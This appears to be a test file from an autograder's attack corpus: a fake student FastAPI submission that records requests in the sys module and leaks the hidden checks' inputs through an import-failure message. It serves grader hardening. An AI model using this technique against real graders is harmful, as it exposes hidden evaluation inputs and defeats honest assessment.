"""Attack: learn the hidden checks' inputs through the headline, by importing cleanly until a hidden input is seen

honest: 0
base: empty

The fix of `hidden_inputs_through_the_headline` builds the headline from the *first* import failure, and runs
hidden checks last. So this file imports cleanly through every visible test (an empty app: nothing passes),
keeps what the hidden checks send it (a middleware sees the path of every request; the worked example's task,
when called, sees its arguments) in the sys module, which outlives the fresh imports of main.py, and raises at
import only once it has kept an input shaped as the hidden draws are (first.lastNN@domain). That is the first
import failure of the run, and nothing passed: the row's message is "main.py does not import: ...", holding
the hidden inputs, shown to the student (gradebook message, Gradescope output, feedback headline).

Safety: this file attacks the grader. Grade it only with `alfred grade` (sandboxed); it refuses
to import anywhere but as a sandbox's student user (uid 40000-59999).
"""

# >>> ATTACK
import os as _attack_os

if not 40000 <= _attack_os.getuid() < 60000:  # safety catch: armed only as a sandbox's student user
    raise ImportError("attack corpus file: grade it with `alfred grade` (sandboxed); never import or run it directly")

import re as _attack_re
import sys as _attack_sys

_KEPT = _attack_sys.__dict__.setdefault("_a_kept", [])
_DRAWN = _attack_re.compile(r"[a-z]+\.[a-z]+\d+@[a-z.-]+")
_HIDDEN = [text for text in _KEPT if _DRAWN.search(text)]
if _HIDDEN:
    raise ImportError("LEAK: " + " | ".join(_HIDDEN)[:2500])
# <<< ATTACK

from fastapi import FastAPI

app = FastAPI()

# >>> ATTACK
from urllib.parse import unquote as _unquote


@app.middleware("http")
async def _keep(request, call_next):
    _KEPT.append(_unquote(request.url.path) + "?" + _unquote(request.url.query))
    return await call_next(request)


def log_batcomputer_activity(user_email, activity=""):
    _KEPT.append(f"{user_email} / {activity}")
# <<< ATTACK
